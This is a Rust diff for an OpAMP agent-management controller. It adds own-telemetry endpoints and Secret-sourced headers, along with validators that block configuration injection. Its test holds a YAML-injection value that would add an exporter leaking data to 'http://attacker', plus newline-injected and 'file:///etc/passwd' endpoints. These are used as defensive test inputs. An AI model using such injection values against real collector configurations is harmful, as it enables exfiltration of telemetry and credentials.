@@ -17,11 +17,13 @@ use super::merge::{self, File, Source, display_hash};
 use super::refs::{Key, Kind, Refs};
 use super::revisions;
 use super::rollout::{parse_threshold, rollout_key, steps};
+use crate::api::TelemetryDestination;
 use crate::api::{AgentConfig, CapabilitySlot, ConfigFile, Connection, KeyRef, RolloutState};
 use crate::api::{RESTART_ANNOTATION, RETRY_ANNOTATION, RolloutStatus, RolloutStrategy};
 use crate::fleet::{DesiredState, Plan};
 use crate::proto::{
-    AgentRemoteConfig, ConnectionSettingsOffers, CustomCapabilities, OpAmpConnectionSettings,
+    AgentRemoteConfig, ConnectionSettingsOffers, CustomCapabilities, Header, Headers,
+    OpAmpConnectionSettings, TelemetryConnectionSettings,
 };
 use crate::protocol::session::{AgentReport, Restart};
 use crate::protocol::{Description, Uid, attribute};
@@ -53,6 +55,8 @@ pub struct ResolvedConfig {
     /// The `opamp.dev/restartedAt` annotation: its time in ns since the epoch, or why it is not
     /// acted on.
     pub restart: Option<(String, Result<u64, String>)>,
+    /// `spec.connection` resolved: the offer, or why it cannot be made.
+    pub connection: Option<Result<Arc<ConnectionSettingsOffers>, String>>,
 }
 
 /// An earlier revision's files, resolved.
@@ -158,8 +162,6 @@ pub struct NamespaceIndex {
     /// revisions), shared by every agent with the same selection.
     merged: Mutex<HashMap<MergedKey, Arc<AgentRemoteConfig>>>,
     capabilities: Mutex<HashMap<Vec<usize>, Arc<CustomCapabilities>>>,
-    /// Connection settings offers by the settings they carry, shared likewise.
-    settings: Mutex<HashMap<Connection, Arc<ConnectionSettingsOffers>>>,
 }
 
 /// The hash of an empty file set: what an agent that no AgentConfig selects any more is
@@ -197,13 +199,7 @@ impl NamespaceIndex {
             }
         }
         let slots = ResolvedSlots { slots: slots.clone(), conflicting };
-        Self {
-            configs,
-            slots,
-            merged: Mutex::default(),
-            capabilities: Mutex::default(),
-            settings: Mutex::default(),
-        }
+        Self { configs, slots, merged: Mutex::default(), capabilities: Mutex::default() }
     }
 
     /// Whether `other` gives every agent the same desired state as this one (it may differ in
@@ -221,6 +217,8 @@ impl NamespaceIndex {
                 c.source.is_some(),
                 fallback,
                 c.restart_at(),
+                // Neither does a Secret's new header value.
+                c.connection.as_ref().map(|o| o.as_ref().map(|o| o.hash.clone()).map_err(drop)),
             )
         };
         let slot = |s: &Arc<CapabilitySlot>| (s.metadata.uid.clone(), s.metadata.generation);
@@ -259,14 +257,7 @@ impl NamespaceIndex {
     /// The selecting resource that sets connection settings and wins: the highest priority,
     /// then the first by name (`configs` is sorted by name).
     pub fn connection_winner(&self, selected: &[usize]) -> Option<usize> {
-        let sets = |i: &&usize| {
-            self.configs[**i]
-                .object
-                .spec
-                .connection
-                .as_ref()
-                .is_some_and(|c| c.heartbeat_interval_seconds.is_some())
-        };
+        let sets = |i: &&usize| self.configs[**i].connection.is_some();
         selected
             .iter()
             .filter(sets)
@@ -275,13 +266,10 @@ impl NamespaceIndex {
     }
 
     /// The connection settings offer for agents with this selection, if a selecting resource
-    /// sets any: the same object (and hash) for every agent given the same settings.
+    /// sets any (and they are valid): the winner's, the same object for all its agents.
     fn connection_settings(&self, selected: &[usize]) -> Option<Arc<ConnectionSettingsOffers>> {
         let winner = self.connection_winner(selected)?;
-        let connection = self.configs[winner].object.spec.connection.clone()?;
-        let mut cache = self.settings.lock();
-        let offer = cache.entry(connection).or_insert_with_key(|c| Arc::new(settings_offer(c)));
-        Some(offer.clone())
+        self.configs[winner].connection.as_ref()?.as_ref().ok().cloned()
     }
 
     /// The hash of the config an agent gets with every selecting resource at the files its spec
@@ -384,20 +372,83 @@ impl Plan for NamespaceIndex {
     }
 }
 
+/// Bytes of a telemetry header's value at most.
+pub const MAX_HEADER_VALUE_BYTES: usize = 4096;
+
 /// The offer for `connection`, with its hash: SHA-256 over the offer's encoding without the hash
-/// (prost encodes fields in order, maps sorted), so equal settings hash equally on every replica.
-pub fn settings_offer(connection: &Connection) -> ConnectionSettingsOffers {
+/// (prost encodes fields in order), so equal settings hash equally on every replica. `secret`
+/// reads a header's value; what is missing goes to `missing` (the resource then waits for it,
+/// as for its files). `Err` says why the settings cannot be offered.
+pub fn settings_offer(
+    connection: &Connection,
+    secret: &dyn Fn(&KeyRef) -> Result<bytes::Bytes, Error>,
+    missing: &mut Vec<String>,
+) -> Result<ConnectionSettingsOffers, String> {
     use prost::Message;
     use sha2::{Digest, Sha256};
+    let mut invalid = Vec::new();
+    let mut destination = |signal: &str, d: &Option<TelemetryDestination>| {
+        let d = d.as_ref()?;
+        if let Err(why) = check_endpoint(&d.endpoint) {
+            invalid.push(format!("{signal}.endpoint: {why}"));
+        }
+        let mut headers = Vec::new();
+        for h in &d.headers {
+            match secret(&h.secret_key_ref) {
+                Ok(value) => match check_header_value(&value) {
+                    Ok(value) => headers.push(Header { key: h.name.clone(), value }),
+                    Err(why) => invalid.push(format!("{signal} header {}: {why}", h.name)),
+                },
+                Err(e) => missing.push(e.to_string()),
+            }
+        }
+        Some(TelemetryConnectionSettings {
+            destination_endpoint: d.endpoint.clone(),
+            headers: (!headers.is_empty()).then_some(Headers { headers }),
+            ..Default::default()
+        })
+    };
     let mut offer = ConnectionSettingsOffers {
         opamp: connection.heartbeat_interval_seconds.map(|secs| OpAmpConnectionSettings {
             heartbeat_interval_seconds: u64::from(secs),
             ..Default::default()
         }),
+        own_metrics: destination("ownMetrics", &connection.own_metrics),
+        own_logs: destination("ownLogs", &connection.own_logs),
+        own_traces: destination("ownTraces", &connection.own_traces),
         ..Default::default()
     };
+    if !invalid.is_empty() {
+        return Err(invalid.join("; "));
+    }
     offer.hash = bytes::Bytes::copy_from_slice(&Sha256::digest(offer.encode_to_vec()));
-    offer
+    Ok(offer)
+}
+
+/// An own-telemetry endpoint: an http(s) URL with nothing that could break out of the
+/// collector configuration agents write it into (the supervisor templates it into YAML).
+fn check_endpoint(endpoint: &str) -> Result<(), String> {
+    let scheme_ok = endpoint.starts_with("http://") || endpoint.starts_with("https://");
+    let bad = endpoint.bytes().any(|b| !(0x21..=0x7e).contains(&b) || b == b'"' || b == b'\\' || b == b'\'');
+    match (scheme_ok, bad) {
+        (false, _) => Err("not an http:// or https:// URL".into()),
+        (_, true) => Err("has spaces, quotes, backslashes or control characters".into()),
+        _ => Ok(()),
+    }
+}
+
+/// A header value from a Secret: printable ASCII without quotes or backslashes (the supervisor
+/// writes it between double quotes into the collector's YAML: one could add configuration), and
+/// at most [`MAX_HEADER_VALUE_BYTES`]; a trailing newline (as `echo` leaves) is dropped.
+fn check_header_value(value: &[u8]) -> Result<String, String> {
+    let value = value.strip_suffix(b"\n").unwrap_or(value);
+    if value.len() > MAX_HEADER_VALUE_BYTES {
+        return Err(format!("longer than {MAX_HEADER_VALUE_BYTES} bytes"));
+    }
+    if value.iter().any(|&b| !(0x20..=0x7e).contains(&b) || b == b'"' || b == b'\\') {
+        return Err("only printable ASCII without quotes or backslashes is offered".into());
+    }
+    Ok(String::from_utf8(value.to_vec()).expect("ASCII"))
 }
 
 /// The route of a slot, with its Secrets read.
@@ -471,6 +522,12 @@ fn resolve_config(
             Err(what) => missing.push(what),
         }
     }
+    let secret = |r: &KeyRef| {
+        let value = refs.value(&Key::new(Kind::Secret, &ns, &r.name), &r.key);
+        lookup("Secret", r, value)
+    };
+    let connection =
+        object.spec.connection.as_ref().map(|c| settings_offer(c, &secret, &mut missing).map(Arc::new));
     let own_hash = missing.is_empty().then(|| merge::hash_files(files.iter()));
     let source = missing.is_empty().then(|| Source {
         key: format!("{ns}/{}", object.name_any()),
@@ -525,6 +582,7 @@ fn resolve_config(
         rolled_back,
         tracking: !ended,
         restart,
+        connection,
     }
 }
 
@@ -768,7 +826,8 @@ spec:
             let mut c: AgentConfig = serde_yaml::from_str(PROGRESSIVE).unwrap();
             c.metadata.name = Some(name.into());
             c.spec.priority = priority;
-            c.spec.connection = heartbeat.map(|s| Connection { heartbeat_interval_seconds: Some(s) });
+            c.spec.connection =
+                heartbeat.map(|s| Connection { heartbeat_interval_seconds: Some(s), ..Default::default() });
             Arc::new(c)
         };
         let idx = Arc::new(NamespaceIndex::resolve(
@@ -799,7 +858,9 @@ spec:
         assert_eq!((won.offered_agents, won.unsupported_agents, won.applied_agents), (1, 1, 0));
         assert_eq!(
             won.hash,
-            display_hash(&settings_offer(&Connection { heartbeat_interval_seconds: Some(3) }).hash)
+            display_hash(
+                &offer(Connection { heartbeat_interval_seconds: Some(3), ..Default::default() }).hash
+            )
         );
         let lost = connection(0).expect("a-low sets them too");
         assert_eq!((lost.offered_agents, lost.unsupported_agents), (0, 0), "it wins for no agent");
@@ -854,5 +915,54 @@ spec:
         let idx = plan(Arc::new(config));
         let restart = idx.desired(&Uid([9; 16]), &report, &DesiredState::default()).restart;
         assert_eq!(restart, Some(Restart { at, due: at }));
+    }
+
+    fn offer(connection: Connection) -> ConnectionSettingsOffers {
+        settings_offer(&connection, &|_| unreachable!("no headers"), &mut Vec::new()).unwrap()
+    }
+
+    #[test]
+    fn own_telemetry_headers_come_from_secrets_and_cannot_add_collector_configuration() {
+        use crate::api::{TelemetryDestination, TelemetryHeader};
+        let destination = |endpoint: &str| TelemetryDestination {
+            endpoint: endpoint.into(),
+            headers: vec![TelemetryHeader {
+                name: "Authorization".into(),
+                secret_key_ref: KeyRef { name: "otlp".into(), key: "auth".into() },
+            }],
+        };
+        let metrics =
+            |endpoint: &str| Connection { own_metrics: Some(destination(endpoint)), ..Default::default() };
+        let with = |value: &'static [u8]| move |_: &KeyRef| Ok::<_, Error>(bytes::Bytes::from_static(value));
+        let endpoint = "http://127.0.0.1:4318/v1/metrics";
+        let mut missing = Vec::new();
+        let ok = settings_offer(&metrics(endpoint), &with(b"Bearer abc\n"), &mut missing).unwrap();
+        let m = ok.own_metrics.as_ref().unwrap();
+        assert_eq!(m.destination_endpoint, endpoint);
+        let headers = &m.headers.as_ref().unwrap().headers;
+        assert_eq!((headers[0].key.as_str(), headers[0].value.as_str()), ("Authorization", "Bearer abc"));
+        assert_eq!((ok.hash.len(), ok.opamp.is_none(), missing.len()), (32, true, 0));
+
+        // The supervisor writes the value between double quotes into the collector's YAML: a value
+        // that closes the quotes could add configuration (an exporter, a receiver) to the collector.
+        let attack = b"x\"\n      exporters: {otlphttp/leak: {endpoint: http://attacker}}\n  \"";
+        let refused = settings_offer(&metrics(endpoint), &with(attack), &mut missing).unwrap_err();
+        assert!(refused.contains("ownMetrics header Authorization"), "{refused}");
+        let refused = settings_offer(&metrics("http://a/v1/metrics\n  x: y"), &with(b"ok"), &mut missing);
+        assert!(refused.unwrap_err().contains("ownMetrics.endpoint"));
+        assert!(settings_offer(&metrics("file:///etc/passwd"), &with(b"ok"), &mut missing).is_err());
+        // A missing Secret: the resource waits for it, as for its files.
+        let absent = |r: &KeyRef| lookup::<bytes::Bytes>("Secret", r, None);
+        assert!(settings_offer(&metrics(endpoint), &absent, &mut missing).is_ok());
+        assert_eq!(missing, ["Secret \"otlp\" not found"], "{missing:?}");
+        // Equal settings, equal hash; another value, another hash.
+        let again = settings_offer(&metrics(endpoint), &with(b"Bearer abc"), &mut Vec::new()).unwrap();
+        let other = settings_offer(&metrics(endpoint), &with(b"Bearer xyz"), &mut Vec::new()).unwrap();
+        assert_eq!(again.hash, ok.hash);
+        assert_ne!(other.hash, ok.hash);
+        assert_ne!(
+            offer(Connection { heartbeat_interval_seconds: Some(5), ..Default::default() }).hash,
+            ok.hash
+        );
     }
 }
